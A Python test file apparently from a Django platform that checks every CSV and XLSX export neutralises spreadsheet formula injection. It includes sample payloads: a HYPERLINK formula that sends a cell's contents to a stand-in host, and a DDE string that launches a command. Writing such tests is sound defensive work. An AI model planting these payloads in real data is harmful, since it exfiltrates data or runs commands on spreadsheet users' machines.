"""No export hands a spreadsheet a formula, whoever typed the text.

The views that export are found, not listed: every view of the URL configuration
whose code reaches one of core.exports' renderers. Each is then fed names that a
spreadsheet would run (an enterprise renamed to ``=HYPERLINK(...)`` by its manager,
a registrant, a member) and every cell of its CSV and XLSX is read back.
"""

import csv
import inspect
import io
import types

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from stodplattform.accounts.models import User
from stodplattform.core import exports
from stodplattform.enterprises.models import Enterprise
from stodplattform.events.testing import make_event, make_registration
from stodplattform.followup.testing import make_figures
from stodplattform.interventions.testing import make_budget, make_intervention
from stodplattform.support.testing import make_case

HOSTILE = '=HYPERLINK("http://example.invalid/?"&C2,"Återvinningsbutiken")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
RENDERERS = {exports.csv_response, exports.xlsx_response, exports.cached_export}


def _reaches_renderer(function, seen) -> bool:
    """Does the function's code call one of the renderers, directly or through the helpers it names?"""
    function = inspect.unwrap(function)
    code = getattr(function, "__code__", None)
    # Only the project's own code: the renderers live in it, and libraries are not exporters.
    if code is None or code in seen or not function.__module__.startswith("stodplattform."):
        return False
    seen.add(code)
    names = set(code.co_names)
    for name in names:
        target = function.__globals__.get(name)
        if isinstance(target, types.ModuleType):
            targets = [getattr(target, n, None) for n in names]
        else:
            targets = [target]
        for candidate in targets:
            if any(candidate is renderer for renderer in RENDERERS):
                return True
            if inspect.isfunction(candidate) and _reaches_renderer(candidate, seen):
                return True
    return False


def _views(resolver=None, prefix=""):
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            yield from _views(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield entry.callback


def export_views() -> set[str]:
    found = set()
    for view in _views():
        if _reaches_renderer(view, set()):
            view = inspect.unwrap(view)
            found.add(f"{view.__module__}.{view.__name__}")
    return found


@pytest.fixture
def hostile(world, settings, tmp_path):
    """Names a spreadsheet would run, wherever an export shows a name."""
    settings.EXPORT_CACHE_ROOT = tmp_path / "exports"
    for enterprise in Enterprise.objects.all():
        enterprise.name = HOSTILE
        enterprise.save()
    for i, user in enumerate(User.objects.all()):
        user.full_name = OTHERS[i % len(OTHERS)]
        user.save()
    world.event = make_event(world.platform)
    make_registration(world.event, name=HOSTILE, email="ada@example.org", organisation=OTHERS[0])
    make_budget(world.platform)
    make_intervention(world, state="approved")
    make_case(world.platform, title=HOSTILE, enterprise=world.enterprise_a, requester_name=OTHERS[2])
    make_figures(world, result_after_financial_items="-12 000")
    from stodplattform.support.models import TimeCategory, TimeEntry

    TimeEntry.objects.create(
        platform=world.platform,
        person=world.coordinator,
        category=TimeCategory.values[0],
        minutes=90,
        note=HOSTILE,
    )
    return world


def export_requests(world) -> dict[str, list[str]]:
    """Every export, by the view that makes it: the addresses of its CSV and XLSX (and JSON)."""
    events = [reverse(f"events-export-{fmt}", args=[world.event.slug]) for fmt in ("csv", "xlsx")]
    budget = reverse("interventions-budget", args=[world.platform.slug])
    members = reverse("platforms-members", args=[world.platform.slug])
    return {
        "stodplattform.enterprises.views.directory_export": [
            reverse(f"enterprises-export-{fmt}") for fmt in ("csv", "xlsx", "json")
        ],
        "stodplattform.events.views.attendees_export": events,
        "stodplattform.interventions.views.budget_overview": [
            f"{budget}?format={f}" for f in ("csv", "xlsx")
        ],
        "stodplattform.platforms.views.members": [f"{members}?format={f}" for f in ("csv", "xlsx")],
        "stodplattform.followup.views.export": [
            reverse("followup-export", args=[world.enterprise_a.slug, fmt]) for fmt in ("csv", "xlsx")
        ],
        "stodplattform.support.views.inbox": [
            f"{reverse('support-inbox')}?format={f}" for f in ("csv", "xlsx")
        ],
        "stodplattform.support.views.time": [
            f"{reverse('support-time')}?format={f}" for f in ("csv", "xlsx")
        ],
        "stodplattform.followup.imports.template": [
            f"{reverse('followup-import-template')}?format={f}" for f in ("csv", "xlsx")
        ],
    }


# Exports with no one's text in them (an empty template): nothing hostile can reach them.
WITHOUT_DATA = {"stodplattform.followup.imports.template"}


def test_every_export_view_is_tested(hostile):
    """A new export (a view that reaches a renderer) must be added to export_requests above."""
    assert export_views() == set(export_requests(hostile))


# Modules that write spreadsheets of their own, each with every text through spreadsheet_safe
# (they are more than one table: several titled tables in one file, the funder's own sheet).
OWN_WRITERS = {"reporting/exporters.py", "reporting/report.py"}
# Modules that only read spreadsheets (an upload).
READERS = {"followup/imports.py"}


def test_only_the_shared_renderer_writes_spreadsheets():
    """An exporter that wrote its own workbook or CSV would skip the neutralising (as the budget's did)."""
    import pathlib

    root = pathlib.Path(exports.__file__).resolve().parent.parent
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path == pathlib.Path(exports.__file__):
            continue
        text = path.read_text()
        name = str(path.relative_to(root))
        writes = "Workbook(" in text or "csv.writer" in text or "csv.DictWriter" in text
        if name in READERS:
            assert not writes, f"{name} reads spreadsheets and should not write one"
            continue
        if name in OWN_WRITERS:
            assert "spreadsheet_safe(" in text, name
            continue
        if "openpyxl" in text or writes:
            offenders.append(name)
    assert offenders == []


def _cells(response, url) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if url.endswith("xlsx"):
        book = load_workbook(io.BytesIO(body))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells), url
        return [cell.value for cell in cells]
    text = body.decode("utf-8-sig")
    if url.endswith("json"):
        return [text]
    return [value for row in csv.reader(io.StringIO(text), delimiter=";") for value in row]


def _is_number(value) -> bool:
    try:
        float(str(value).replace(",", "."))
    except ValueError:
        return False
    return True


def test_no_cell_of_any_export_is_a_formula(client, hostile):
    client.force_login(hostile.superuser)
    checked = 0
    for view, urls in export_requests(hostile).items():
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, (view, url)
            cells = _cells(response, url)
            if url.endswith("json"):
                continue  # JSON is data, not a sheet: the name stays as typed.
            texts = [v for v in cells if isinstance(v, str)]
            dangerous = [v for v in texts if v.startswith(exports.FORMULA_PREFIXES) and not _is_number(v)]
            assert dangerous == [], (view, url)
            if view in WITHOUT_DATA:
                continue
            # The hostile text did reach this export, neutralised.
            assert any(v.startswith(("'=", "'+", "'-", "'@", "'\t", "'\r")) for v in texts), (view, url)
            checked += 1
    assert checked == 14


def test_every_csv_opens_in_swedish_excel(client, hostile):
    """UTF-8 with a BOM, ";" between columns, and amounts with a decimal comma (14200,00), never 14200.00."""
    import re

    client.force_login(hostile.superuser)
    amounts = 0
    for view, urls in export_requests(hostile).items():
        for url in (u for u in urls if "csv" in u):
            response = client.get(url)
            body = b"".join(response.streaming_content) if response.streaming else response.content
            assert body.startswith(b"\xef\xbb\xbf"), (view, url)
            text = body.decode("utf-8-sig")
            header = text.splitlines()[0]
            assert ";" in header and "," not in header.replace(", ", ""), (view, url)
            cells = [value for row in csv.reader(io.StringIO(text), delimiter=";") for value in row]
            # Amounts, not SNI codes (47.11).
            assert not [c for c in cells if re.fullmatch(r"-?\d{3,}\.\d{2}", c)], (view, url)
            amounts += len([c for c in cells if re.fullmatch(r"-?\d+,\d{2}", c)])
    assert amounts  # the budget's sums are among them
